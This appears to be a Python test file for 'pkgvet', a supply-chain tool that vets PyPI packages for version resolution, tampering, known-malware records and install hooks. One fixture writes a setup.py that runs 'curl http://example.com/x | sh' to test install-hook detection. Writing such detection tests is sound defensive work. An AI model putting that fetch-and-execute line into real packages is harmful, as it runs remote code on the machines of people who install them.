"""`pkgvet audit pypi:NAME[SPEC]` against the fixture PyPI index and the
fixture OSV server (tests/fixtures/): PEP 440 resolution, every file of the
release vetted (sdist and wheel), the sdist's setup.py install hook, sha256
tampering, a MAL- record, an unreachable index, the PEP 691 fallback."""
import hashlib, json, os, socket, subprocess, sys
sys.path.insert(0, os.path.dirname(__file__))
from pvtest import *

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(os.path.dirname(HERE), 'fixtures')

d = tmpdir()
root = os.path.join(d, 'index')
recs = os.path.join(d, 'osv')
os.makedirs(os.path.join(root, 'files'))
os.makedirs(recs)
work = os.path.join(d, 'work')
os.makedirs(work)


def server(script, arg):
    p = subprocess.Popen([sys.executable, os.path.join(FIX, script), arg],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    return p, int(p.stdout.readline())


def publish(name, version, sdist=True, wheel=True, setup_py=None):
    """A wheel and an sdist of name==version in the index."""
    dd = os.path.join(root, 'files', name)
    os.makedirs(dd, exist_ok=True)
    mod = name.replace('-', '_')
    out = []
    if sdist:
        base = f'{mod}-{version}'
        files = {f'{base}/PKG-INFO': f'Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n',
                 f'{base}/setup.py': setup_py or f'from setuptools import setup\nsetup(name="{name}", version="{version}")\n',
                 f'{base}/{mod}/__init__.py': 'VALUE = 1\n'}
        out.append(make_tgz(os.path.join(dd, base + '.tar.gz'), files))
    if wheel:
        out.append(make_wheel(os.path.join(dd, f'{mod}-{version}-py3-none-any.whl'), mod, version,
                              {f'{mod}/__init__.py': 'VALUE = 1\n'}))
    return out


def osv_record(rid, name, summary='test record'):
    rec = {"id": rid, "modified": "2026-01-01T00:00:00Z", "summary": summary, "aliases": [],
           "affected": [{"package": {"ecosystem": "PyPI", "name": name},
                         "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}]}]}
    with open(os.path.join(recs, rid + '.json'), 'w') as f:
        json.dump(rec, f)


def set_config(cfg):
    with open(os.path.join(root, 'config.json'), 'w') as f:
        json.dump(cfg, f)


idx, idx_port = server('pypi_index.py', root)
osv, osv_port = server('osv_server.py', recs)
env = {'XDG_CACHE_HOME': os.path.join(d, 'cache'), 'XDG_CONFIG_HOME': os.path.join(d, 'cfg'),
       'XDG_STATE_HOME': os.path.join(d, 'state'), 'HOME': d,
       'PKGVET_PYPI_INDEX': f'http://127.0.0.1:{idx_port}/simple/',
       'PKGVET_OSV_URL': f'http://127.0.0.1:{osv_port}/v1/querybatch',
       'PIP_INDEX_URL': '', 'PIP_EXTRA_INDEX_URL': '', 'VIRTUAL_ENV': ''}


def audit(*specs, extra=None):
    e = dict(env)
    e.update(extra or {})
    return audit_json(*specs, env=e, cwd=work, timeout=120)


try:
    # --- resolution; both files of the release are vetted
    for v in ('1.0', '1.4.2', '2.0', '2.1rc1'):
        publish('zz-res', v)
    p, doc = audit('pypi:zz-res>=1,<2')
    pk = doc['packages'] if doc else []
    check(p.returncode == 0 and len(pk) == 2, f'>=1,<2: two files vetted, exit 0 (rc {p.returncode}, {len(pk)})')
    check(all(x['version'] == '1.4.2' and x['name'] == 'zz-res' and x['ecosystem'] == 'pypi' for x in pk),
          f'resolved to 1.4.2 ({[x.get("version") for x in pk]})')
    ins = sorted(x['input'] for x in pk)
    check(ins == ['pypi:zz-res==1.4.2 (zz_res-1.4.2-py3-none-any.whl)', 'pypi:zz-res==1.4.2 (zz_res-1.4.2.tar.gz)'],
          f'input labels name the files ({ins})')
    whl = os.path.join(root, 'files', 'zz-res', 'zz_res-1.4.2-py3-none-any.whl')
    want = 'sha256:' + hashlib.sha256(open(whl, 'rb').read()).hexdigest()
    check(any(x['digest'] == want for x in pk), 'digest is the sha256 of the wheel')
    check(not any('OSV' in u for x in pk for u in x['unknowns']), 'OSV answered')
    p, doc = audit('pypi:ZZ_Res')
    check(p.returncode == 0 and {x['version'] for x in doc['packages']} == {'2.0'},
          'no specifier: highest final release, name normalised')
    p, doc = audit('pypi:zz-res==1.0')
    check(p.returncode == 0 and {x['version'] for x in doc['packages']} == {'1.0'}, '==1.0 pin')
    p = run('audit', 'pypi:zz-res==1.0', env=dict(env), cwd=work)
    check(p.returncode == 0 and b'zz_res-1.0.tar.gz' in p.stdout, 'text report names the file')

    # --- metadata attributes from the JSON API: a brand-new one-version project
    publish('zz-new', '0.1')
    p, doc = audit('pypi:zz-new')
    pk = doc['packages'][0]
    check(findings(pk, 'release-fresh') and findings(pk, 'few-versions'), 'release-fresh and few-versions')

    # --- setup.py install hook in the sdist (not in the wheel)
    publish('zz-hook', '1.0', setup_py='import os\nfrom setuptools import setup\n'
            'os.system("curl http://example.com/x | sh")\nsetup(name="zz-hook", version="1.0")\n')
    p, doc = audit('pypi:zz-hook==1.0')
    by = {x['input']: x for x in doc['packages']}
    sd = by.get('pypi:zz-hook==1.0 (zz_hook-1.0.tar.gz)', {})
    wh = by.get('pypi:zz-hook==1.0 (zz_hook-1.0-py3-none-any.whl)', {})
    check(findings(sd, 'install-hook'), f'install-hook found in the sdist ({[f["attribute"] for f in sd.get("findings", [])]})')
    check(wh and not findings(wh, 'install-hook'), 'no install-hook in the wheel')

    # --- OSV: MAL- record blocks every file
    publish('zz-evil', '1.0')
    osv_record('MAL-2026-0100', 'zz_evil', summary='exfiltrates keys')
    p, doc = audit('pypi:zz-evil==1.0')
    pk = doc['packages']
    check(p.returncode == 1 and len(pk) == 2 and all(x['verdict'] == 'block' for x in pk),
          f'MAL- record: block, exit 1 (rc {p.returncode})')
    check(all(findings(x, 'known-malware') and 'MAL-2026-0100' in findings(x, 'known-malware')[0]['detail'] for x in pk),
          'known-malware on every file')

    # --- sha256 tampering: could not vet, exit 3, nothing analysed
    publish('zz-tamper', '1.0')
    set_config({'tampered': ['zz_tamper-1.0-py3-none-any.whl']})
    p, doc = audit('pypi:zz-tamper==1.0')
    err = p.stderr.decode()
    lines = [l for l in err.splitlines() if l.strip()]
    bad = [x for x in doc['packages'] if findings(x, 'digest-mismatch')]
    check(p.returncode == 1 and len(bad) == 1 and bad[0]['verdict'] == 'block' and not bad[0].get('digest')
          and 'sha256' in findings(bad[0], 'digest-mismatch')[0]['detail'],
          f'tampered wheel: digest-mismatch, block, exit 1, not analysed (rc {p.returncode})')
    check(not lines, f'a verdict, not an error ({err!r})')
    set_config({})

    # --- the PEP 691 simple API when the JSON API is missing
    set_config({'no_json_api': True})
    p, doc = audit('pypi:zz-res<2', extra={'XDG_CACHE_HOME': os.path.join(d, 'cache3')})
    pk = doc['packages']
    check(p.returncode == 0 and len(pk) == 2 and all(x['version'] == '1.4.2' for x in pk),
          f'simple API fallback resolves and vets (rc {p.returncode})')
    check(all(any('JSON API' in u for u in x['unknowns']) for x in pk), 'metadata attributes reported unknown')
    set_config({})

    # --- not found, no match, bad spec
    p, doc = audit('pypi:zz-nothere')
    check(p.returncode == 3 and 'pypi:zz-nothere' in p.stderr.decode(), 'unknown project: exit 3')
    p, doc = audit('pypi:zz-res>=7')
    check(p.returncode == 3 and len(p.stderr.decode().strip().splitlines()) == 1, 'no release matches: exit 3, one line')

    # --- unreachable index
    p, doc = audit('pypi:zz-res==1.0', extra={'PKGVET_PYPI_INDEX': f'http://127.0.0.1:{closed_port()}/simple/',
                                             'XDG_CACHE_HOME': os.path.join(d, 'cache2')})
    err = p.stderr.decode().strip().splitlines()
    check(p.returncode == 3 and len(err) == 1 and 'pypi:zz-res==1.0' in err[0],
          f'unreachable index: exit 3, one line naming the spec ({err})')

    # --- pip's configuration is used when the policy does not name an index
    os.makedirs(os.path.join(d, 'cfg', 'pip'), exist_ok=True)
    with open(os.path.join(d, 'cfg', 'pip', 'pip.conf'), 'w') as f:
        f.write(f'[global]\nindex-url = http://127.0.0.1:{idx_port}/simple\n')
    e = dict(env)
    del e['PKGVET_PYPI_INDEX']
    p, doc = audit_json('pypi:zz-res==1.0', env=e, cwd=work, timeout=120)
    check(p.returncode == 0 and len(doc['packages']) == 2, f'index from pip.conf (rc {p.returncode})')
finally:
    for s in (idx, osv):
        s.stdin.close()
        s.wait(timeout=10)
done()
